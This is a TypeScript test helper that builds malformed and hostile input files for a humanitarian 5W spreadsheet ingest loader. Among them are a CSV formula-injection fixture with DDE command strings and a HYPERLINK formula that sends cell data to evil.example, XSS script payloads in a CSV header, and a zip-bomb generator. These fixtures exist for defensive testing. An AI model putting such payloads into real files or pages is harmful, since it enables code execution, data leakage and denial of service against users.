// Hostile and broken input files for the ingest tests. The small ones are committed under
// test/fixtures/bad/ (regenerate with `npx tsx test/helpers/bad-files.ts test/fixtures/bad`); the big
// ones (zip bomb, 50 MB cell, 100,000 columns, 100,000 levels of JSON, large 5W files for the crash
// tests) are written by the tests into a temporary folder, never committed.
import { closeSync, mkdirSync, openSync, readFileSync, writeFileSync, writeSync } from "node:fs";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import ExcelJS from "exceljs";
import { strToU8, unzipSync, zipSync, Zip, ZipDeflate, type Zippable } from "fflate";
import iconv from "iconv-lite";

/** The smallest 5W header the loader recognises (see loaders/kinds/five-w.ts). */
export const FIVE_W_HEADER = ["Reporting month", "Organization", "AoR", "District P-code", "Population group", "People reached"];

/** A valid 5W data row for the areas that test/helpers/warehouse.ts seeds. */
export const goodRow = (i = 0): string[] => ["2025-06", "ONG Espoir", "GBV", i % 2 ? "XD0201" : "XD0101", "IDP", String(10 + i)];

const csvCell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
export const csvText = (rows: string[][], eol = "\n") => rows.map((r) => r.map(csvCell).join(",")).join(eol) + eol;

const FIXED = new Date(Date.UTC(2025, 0, 1));

async function xlsxBuffer(build: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  // fixed dates, so that regenerated fixtures differ only where their content does
  wb.created = wb.modified = FIXED;
  build(wb);
  // re-zipped with a fixed time, so that regenerated fixtures are byte for byte the same
  return editZip(Buffer.from(await wb.xlsx.writeBuffer()), (_, data) => data);
}

/** Rewrites entries of a zip (XLSX) file; an entry mapped to null is removed. */
function editZip(buf: Buffer, edit: (name: string, data: Uint8Array) => Uint8Array | null): Buffer {
  const files = unzipSync(buf);
  const out: Zippable = {};
  for (const [name, data] of Object.entries(files)) {
    const d = edit(name, data);
    if (d) out[name] = d;
  }
  return Buffer.from(zipSync(out, { level: 6, mtime: FIXED }));
}

/** A compound-file (OLE/CFB) container with the given stream names in its directory: what Excel writes
 *  for a password-protected .xlsx (EncryptionInfo, EncryptedPackage) or a legacy .xls (Workbook). */
function cfbContainer(streams: string[]): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x003e, 24); // minor version
  header.writeUInt16LE(0x0003, 26); // major version 3 (512-byte sectors)
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  header.writeUInt32LE(1, 44); // one FAT sector
  header.writeUInt32LE(1, 48); // directory starts at sector 1
  header.writeUInt32LE(4096, 56);
  header.writeUInt32LE(0xfffffffe, 60);
  header.writeUInt32LE(0xfffffffe, 68);
  header.writeUInt32LE(0, 76); // DIFAT[0] = sector 0
  for (let i = 80; i < 512; i += 4) header.writeUInt32LE(0xffffffff, i);
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0);
  fat.writeUInt32LE(0xfffffffe, 4);
  const dir = Buffer.alloc(512);
  ["Root Entry", ...streams].slice(0, 4).forEach((name, i) => {
    const nameBuf = Buffer.from(name + "\0", "utf16le");
    nameBuf.copy(dir, i * 128);
    dir.writeUInt16LE(nameBuf.length, i * 128 + 64);
    dir[i * 128 + 66] = i === 0 ? 5 : 2;
  });
  return Buffer.concat([header, fat, dir, Buffer.alloc(512)]);
}

export interface Fixture {
  name: string;
  data: Buffer | string;
}

/** The committed fixtures: small, one hostile trait each. */
export async function smallFixtures(): Promise<Fixture[]> {
  const good5w = await xlsxBuffer((wb) => {
    const ws = wb.addWorksheet("5W");
    ws.addRow(FIVE_W_HEADER);
    for (let i = 0; i < 40; i++) ws.addRow(goodRow(i).map((v, j) => (j === 5 ? Number(v) : v)));
  });
  const header = FIVE_W_HEADER.join(",");
  const utf8Csv = csvText([FIVE_W_HEADER, ["2025-06", "ONG Séno Espoir", "GBV", "XD0101", "IDP", "12"], ["2025-06", "ONG Séno Espoir", "Child Protection", "XD0201", "Réfugiés", "7"]]);
  const utf16 = (text: string, be: boolean, bom: boolean) => {
    const le = Buffer.from(text, "utf16le");
    const body = be ? Buffer.from(le).swap16() : le;
    return bom ? Buffer.concat([Buffer.from(be ? [0xfe, 0xff] : [0xff, 0xfe]), body]) : body;
  };
  const zeroSheets = editZip(
    await xlsxBuffer((wb) => wb.addWorksheet("Data").addRow(FIVE_W_HEADER)),
    (name, data) => {
      if (/^xl\/worksheets\//.test(name)) return null;
      const text = new TextDecoder().decode(data);
      if (name === "xl/workbook.xml") return strToU8(text.replace(/<sheets>.*<\/sheets>/s, "<sheets/>"));
      if (name === "xl/_rels/workbook.xml.rels") return strToU8(text.replace(/<Relationship [^>]*worksheet[^>]*\/>/g, ""));
      if (name === "[Content_Types].xml") return strToU8(text.replace(/<Override [^>]*worksheets[^>]*\/>/g, ""));
      if (name === "docProps/app.xml") return strToU8(text.replace(/<TitlesOfParts>.*<\/TitlesOfParts>/s, "").replace(/<HeadingPairs>.*<\/HeadingPairs>/s, ""));
      return data;
    }
  );
  // flips bytes in the middle of the compressed sheet: a CRC / inflate error only a full read sees
  const corruptSheet = (() => {
    const buf = Buffer.from(good5w);
    const at = buf.indexOf("xl/worksheets/sheet1.xml");
    for (let i = at + 60; i < at + 160; i++) buf[i] = buf[i]! ^ 0x5a;
    return buf;
  })();

  return [
    // empty and non-text files
    { name: "empty.csv", data: "" },
    { name: "empty.xlsx", data: "" },
    { name: "empty.json", data: "" },
    { name: "bom-only.csv", data: Buffer.from([0xef, 0xbb, 0xbf]) },
    { name: "blank-lines.csv", data: "\n\n   \n\t\n" },
    { name: "binary-junk.csv", data: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)) },
    { name: "workbook-named.csv", data: good5w },
    { name: "nul-byte-in-cell.csv", data: `${header}\n2025-06,ONG\u0000Espoir,GBV,XD0101,IDP,12\n2025-06,ONG Espoir,GBV,XD0201,IDP,5\n` },
    // zip / XLSX containers
    { name: "truncated-half.xlsx", data: good5w.subarray(0, Math.floor(good5w.length / 2)) },
    { name: "truncated-no-directory.xlsx", data: good5w.subarray(0, good5w.length - 30) },
    { name: "corrupt-sheet-data.xlsx", data: corruptSheet },
    { name: "text-named.xlsx", data: utf8Csv },
    { name: "zip-not-workbook.xlsx", data: Buffer.from(zipSync({ "readme.txt": strToU8("not a workbook") }, { mtime: FIXED })) },
    { name: "zero-sheets.xlsx", data: zeroSheets },
    {
      name: "malformed-sheet-xml.xlsx",
      data: editZip(good5w, (name, data) => (name === "xl/worksheets/sheet1.xml" ? data.subarray(0, Math.floor(data.length / 2)) : data))
    },
    {
      // a cell at column AZZZ (35,854): beyond Excel's last column XFD (16,384)
      name: "beyond-last-column.xlsx",
      data: editZip(good5w, (name, data) =>
        name === "xl/worksheets/sheet1.xml" ? strToU8(new TextDecoder().decode(data).replace(/(<row r="2"[^>]*>.*?)(<\/row>)/s, '$1<c r="AZZZ2" t="inlineStr"><is><t>far away</t></is></c>$2')) : data
      )
    },
    { name: "ods-renamed.xlsx", data: Buffer.from(zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.spreadsheet"), "content.xml": strToU8("<office:document-content/>") }, { level: 0, mtime: FIXED })) },
    { name: "word-document.xlsx", data: Buffer.from(zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": strToU8("<w:document/>") }, { mtime: FIXED })) },
    {
      name: "hidden-only-sheet.xlsx",
      data: await xlsxBuffer((wb) => {
        const ws = wb.addWorksheet("5W", { state: "hidden" });
        ws.addRow(FIVE_W_HEADER);
        ws.addRow(goodRow().map((v, j) => (j === 5 ? Number(v) : v)));
      })
    },
    {
      name: "header-only.xlsx",
      data: await xlsxBuffer((wb) => wb.addWorksheet("5W").addRow(FIVE_W_HEADER))
    },
    {
      name: "formula-errors.xlsx",
      data: await xlsxBuffer((wb) => {
        const ws = wb.addWorksheet("5W");
        ws.addRow(FIVE_W_HEADER);
        ws.addRow(["2025-06", "ONG Espoir", "GBV", "XD0101", "IDP", { formula: "1/0", result: { error: "#DIV/0!" } }]);
        ws.addRow(["2025-06", "ONG Espoir", "GBV", { formula: "#REF!", result: { error: "#REF!" } }, "IDP", 4]);
        ws.addRow(["2025-06", "ONG Espoir", { formula: "VLOOKUP(Z1,Z:Z,1,0)", result: { error: "#N/A" } }, "XD0101", "IDP", 4]);
        ws.addRow(["2025-06", "ONG Espoir", "GBV", "XD0201", "IDP", { formula: "SUM(1,2)" }]);
        ws.addRow(["2025-06", "ONG Espoir", "GBV", "XD0201", "IDP", { formula: "2*3", result: 6 }]);
      })
    },
    { name: "encrypted.xlsx", data: cfbContainer(["EncryptionInfo", "EncryptedPackage"]) },
    { name: "legacy-renamed.xlsx", data: cfbContainer(["Workbook", "\u0005SummaryInformation"]) },
    { name: "legacy.xls", data: cfbContainer(["Workbook"]) },
    // unknown types
    { name: "report.ods", data: Buffer.from(zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.spreadsheet") }, { level: 0, mtime: FIXED })) },
    { name: "no-extension", data: utf8Csv },
    // encodings
    { name: "utf16le-bom.csv", data: utf16(utf8Csv, false, true) },
    { name: "utf16be-bom.csv", data: utf16(utf8Csv, true, true) },
    { name: "utf16le-no-bom.csv", data: utf16(utf8Csv, false, false) },
    { name: "utf16be-no-bom.csv", data: utf16(utf8Csv, true, false) },
    { name: "windows-1252.csv", data: iconv.encode(csvText([FIVE_W_HEADER, ["2025-06", "ONG Séno Espoir – “Avenir”", "GBV", "XD0101", "IDP", "12"], ["2025-06", "Coopération €", "GBV", "XD0201", "IDP", "3"]], "\r\n"), "windows-1252") },
    {
      // UTF-8 with two broken sequences (a stray 0xFF, a lead byte cut off before the comma)
      name: "invalid-utf8.csv",
      data: Buffer.concat([
        Buffer.from(`${header}\n2025-06,ONG Séno Espoir `),
        Buffer.from([0xff]),
        Buffer.from(",GBV,XD0101,IDP,12\n2025-06,Coopération Ségou,GBV,XD0201,IDP,5\n2025-06,Kéra – Nord "),
        Buffer.from([0xc3]),
        Buffer.from(",GBV,XD0201,IDP,6\n")
      ])
    },
    { name: "shift-jis.csv", data: iconv.encode(csvText([FIVE_W_HEADER, ...Array.from({ length: 6 }, (_, i) => ["2025-06", `日本の保護団体 第${i + 1}支部`, "GBV", "XD0101", "IDP", String(i + 1)])]), "shift_jis") },
    // CSV shapes
    { name: "delimiter-only.csv", data: ",,,,,\n" },
    { name: "header-only.csv", data: header + "\n" },
    { name: "quoted-blanks.csv", data: '"","",""\n"" , "",""\n' },
    { name: "every-column-empty.csv", data: header + "\n" + ",,,,,\n".repeat(5) + " , ,\t, , ,\n\u00a0,\u00a0\u00a0,,,,\n" },
    { name: "ragged.csv", data: `${header}\n2025-06,ONG Espoir,GBV,XD0101,IDP,12\n2025-06,ONG Espoir,GBV\n2025-06,ONG Espoir,GBV,XD0201,IDP,5,extra,more,cells\n2025-06\n` },
    { name: "unterminated-quote.csv", data: `${header}\n2025-06,"ONG Espoir,GBV,XD0101,IDP,12\n2025-06,ONG Espoir,GBV,XD0201,IDP,5\n` },
    { name: "old-mac-line-ends.csv", data: csvText([FIVE_W_HEADER, goodRow(0), goodRow(1), goodRow(2)], "\r") },
    { name: "duplicate-headers.csv", data: csvText([["Reporting month", "Organization", "Organization", "AoR", "District P-code", "People reached", "People reached"], ["2025-06", "ONG A", "ONG B", "GBV", "XD0101", "12", "99"]]) },
    { name: "html-script-header.csv", data: csvText([[...FIVE_W_HEADER, "<script>alert('x')</script>", "<img src=x onerror=alert(1)>"], ["2025-06", "<b>ONG</b> Espoir", "GBV", "XD0101", "IDP", "12", "<script>alert(1)</script>", "ok"]]) },
    {
      name: "formula-injection.csv",
      data: csvText([
        FIVE_W_HEADER,
        ["2025-06", "=cmd|' /C calc'!A0", "GBV", "XD0101", "IDP", "12"],
        ["2025-06", '@HYPERLINK("http://evil.example/?"&A1,"click")', "GBV", "XD0201", "IDP", "3"],
        ["2025-06", "-2+3+cmd|' /C calc'!A0", "GBV", "XD0201", "IDP", "4"],
        ["2025-06", "ONG Espoir", "GBV", "XD0201", "IDP", "=1+1"],
        ["2025-06", "+1+1+cmd|' /C notepad'!A0", "GBV", "XD0201", "IDP", "5"]
      ])
    },
    {
      // organisations whose names start like a totals row, then a real totals row
      name: "org-named-total.csv",
      data: csvText([
        FIVE_W_HEADER,
        ["2025-06", "Total Relief Foundation", "GBV", "XD0101", "IDP", "12"],
        ["2025-06", "Sum of Us", "GBV", "XD0201", "IDP", "8"],
        ["TOTAL", "", "", "", "", "20"]
      ])
    },
    {
      name: "dates-as-text.csv",
      data: csvText([FIVE_W_HEADER, ...["2025-06", "06/2025", "June 2025", "juin 2025", "15/06/2025", "2025-06-15", "Jun-25", "45823", "sometime in June"].map((m, i) => [m, "ONG Espoir", "GBV", "XD0101", "IDP", String(i + 1)])])
    },
    {
      name: "mixed-types.csv",
      data: csvText([FIVE_W_HEADER, ...["10", "ten", "3.5", "1,250", "TRUE", "#N/A", "-5", "1e3", "2025-06-01"].map((v) => ["2025-06", "ONG Espoir", "GBV", "XD0101", "IDP", v])])
    },
    {
      name: "huge-numbers.csv",
      data: csvText([FIVE_W_HEADER, ...["12", "1e20", "Infinity", "NaN", "99999999999999999999999"].map((v) => ["2025-06", "ONG Espoir", "GBV", "XD0101", "IDP", v])])
    },
    // JSON
    { name: "invalid.json", data: '{"type": "FeatureCollection", "features": [\n  {"type": "Feature",, }\n' },
    { name: "html-page.json", data: "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body>502</body></html>\n" },
    { name: "unknown-structure.json", data: JSON.stringify({ meta: { version: 2 }, payload: [1, 2, 3], ok: true }) },
    { name: "empty-array.json", data: "[]" },
    { name: "null.json", data: "null" },
    {
      name: "invalid-geometries.geojson",
      data: JSON.stringify({
        type: "FeatureCollection",
        features: [
          { type: "Feature", properties: { adm1_pcode: "XE01", adm1_name: "Unclosed" }, geometry: { type: "Polygon", coordinates: [[[10, 10], [11, 10], [11, 11], [10, 11]]] } },
          { type: "Feature", properties: { adm1_pcode: "XE02", adm1_name: "Lat 200" }, geometry: { type: "Polygon", coordinates: [[[10, 10], [11, 200], [11, 11], [10, 10]]] } },
          { type: "Feature", properties: { adm1_pcode: "XE03", adm1_name: "A point" }, geometry: { type: "Point", coordinates: [10, 10] } },
          { type: "Feature", properties: { adm1_pcode: "XE04", adm1_name: "No geometry" }, geometry: null },
          { type: "Feature", properties: { adm1_pcode: "XE05", adm1_name: "Valid" }, geometry: { type: "Polygon", coordinates: [[[10, 10], [11, 10], [11, 11], [10, 10]]] } }
        ]
      })
    }
  ];
}

export async function writeSmallFixtures(dir: string): Promise<string[]> {
  mkdirSync(dir, { recursive: true });
  const names: string[] = [];
  for (const f of await smallFixtures()) {
    writeFileSync(join(dir, f.name), f.data);
    names.push(f.name);
  }
  return names;
}

// ---------------------------------------------------------------------------------------------
// Big hostile files: generated at test time.

/** A real zip bomb: a sheet of `mb` MB of blank XML deflated to a few hundred KB, streamed so that the
 *  expanded content is never held in memory. With `lie`, the zip directory claims the sheet is 4 KB. */
export async function writeXlsxBomb(path: string, mb = 150, lie = false): Promise<void> {
  const parts = unzipSync(await xlsxBuffer((wb) => wb.addWorksheet("5W").addRow(FIVE_W_HEADER)));
  const fd = openSync(path, "w");
  try {
    await new Promise<void>((done, fail) => {
      const zip = new Zip((err, data, final) => {
        if (err) return fail(err);
        writeSync(fd, data);
        if (final) done();
      });
      for (const [name, data] of Object.entries(parts)) {
        if (name === "xl/worksheets/sheet1.xml") continue;
        const e = new ZipDeflate(name, { level: 6 });
        zip.add(e);
        e.push(data, true);
      }
      const sheet = new ZipDeflate("xl/worksheets/sheet1.xml", { level: 9 });
      zip.add(sheet);
      sheet.push(strToU8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`));
      const chunk = strToU8(" ".repeat(1 << 20));
      for (let i = 0; i < mb; i++) sheet.push(chunk);
      sheet.push(strToU8(`</sheetData></worksheet>`), true);
      zip.end();
    });
  } finally {
    closeSync(fd);
  }
  if (lie) {
    const buf = readFileSync(path);
    for (let p = buf.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); p >= 0; p = buf.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), p + 4)) {
      const name = buf.toString("utf8", p + 46, p + 46 + buf.readUInt16LE(p + 28));
      if (name === "xl/worksheets/sheet1.xml") buf.writeUInt32LE(4096, p + 24);
    }
    writeFileSync(path, buf);
  }
}

/** A 5W workbook with one cell of `chars` characters (beyond Excel's own 32,767). */
export async function writeLongCellXlsx(path: string, chars = 2 * 1024 ** 2): Promise<void> {
  writeFileSync(
    path,
    await xlsxBuffer((wb) => {
      const ws = wb.addWorksheet("5W");
      ws.addRow([...FIVE_W_HEADER, "Activity"]);
      ws.addRow([...goodRow().slice(0, 5), 12, "A".repeat(chars)]);
    })
  );
}

/** A 5W CSV whose one data row has a `mb` MB Activity cell. */
export function writeHugeCellCsv(path: string, mb = 50): void {
  const fd = openSync(path, "w");
  try {
    writeSync(fd, `${FIVE_W_HEADER.join(",")},Activity\n2025-06,ONG Espoir,GBV,XD0101,IDP,12,`);
    const chunk = "A".repeat(1 << 20);
    for (let i = 0; i < mb; i++) writeSync(fd, chunk);
    writeSync(fd, "\n");
  } finally {
    closeSync(fd);
  }
}

/** A JSON array of 5W records, one holding a `mb` MB string. */
export function writeHugeCellJson(path: string, mb = 50): void {
  writeFileSync(path, JSON.stringify([{ Organization: "ONG Espoir", AoR: "GBV", "District P-code": "XD0101", "People reached": 1, Activity: "A".repeat(mb * 1024 ** 2) }]));
}

/** A CSV with `n` columns (header and one row). */
export function writeWideCsv(path: string, n = 100_000): void {
  const cols = Array.from({ length: n }, (_, i) => (i < FIVE_W_HEADER.length ? FIVE_W_HEADER[i]! : `Column ${i + 1}`));
  writeFileSync(path, cols.join(",") + "\n" + cols.map((_, i) => String(i)).join(",") + "\n");
}

/** JSON nested `depth` levels deep: as a bare array, or inside one record of an array of records. */
export function writeDeepJson(path: string, depth = 100_000, inRecord = false): void {
  const deep = "[".repeat(depth) + "]".repeat(depth);
  writeFileSync(path, inRecord ? `[{"Organization": "ONG Espoir", "code": "A", "name": "B", "payload": ${deep}}]` : deep);
}

// ---------------------------------------------------------------------------------------------
// Large valid 5W files, for the crash tests.

/** mulberry32: the same seed gives the same file and the same kill points. */
export function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ORGS = ["ONG Espoir", "Save the Children", "IRC", "NRC", "DRC", "ONG Avenir", "Intersos", "UNHCR"];
const AORS = ["GBV", "Child Protection", "General Protection", "Mine Action", "HLP"];
const AREAS = ["XD0101", "XD0102", "XD0201", "XD0202"];
const GROUPS = ["IDP", "Host community", "Refugees", "Returnees"];

function largeRow(i: number, r: () => number): string[] {
  const pick = <T>(a: T[]) => a[Math.floor(r() * a.length)]!;
  return [`2025-${String(1 + (i % 12)).padStart(2, "0")}`, pick(ORGS), pick(AORS), pick(AREAS), pick(GROUPS), String(Math.floor(r() * 500))];
}

/** A valid 5W CSV of `rows` data rows; every row is accepted against the seeded areas. */
export function writeLarge5wCsv(path: string, rows: number, seed = 1): void {
  const r = rng(seed);
  const fd = openSync(path, "w");
  try {
    writeSync(fd, FIVE_W_HEADER.join(",") + "\n");
    let buf: string[] = [];
    for (let i = 0; i < rows; i++) {
      buf.push(largeRow(i, r).join(","));
      if (buf.length === 10_000) {
        writeSync(fd, buf.join("\n") + "\n");
        buf = [];
      }
    }
    if (buf.length) writeSync(fd, buf.join("\n") + "\n");
  } finally {
    closeSync(fd);
  }
}

/** A valid 5W workbook of `rows` data rows, streamed. */
export async function writeLarge5wXlsx(path: string, rows: number, seed = 2): Promise<void> {
  const r = rng(seed);
  const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: path, useSharedStrings: false, useStyles: false });
  const ws = wb.addWorksheet("5W");
  ws.addRow(FIVE_W_HEADER).commit();
  for (let i = 0; i < rows; i++) {
    const row = largeRow(i, r);
    ws.addRow([...row.slice(0, 5), Number(row[5])]).commit();
  }
  ws.commit();
  await wb.commit();
}

// `npx tsx test/helpers/bad-files.ts test/fixtures/bad` rewrites the committed fixtures
if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  const dir = process.argv[2] ?? "test/fixtures/bad";
  const names = await writeSmallFixtures(dir);
  process.stdout.write(`${names.length} fixtures written to ${dir}\n`);
}
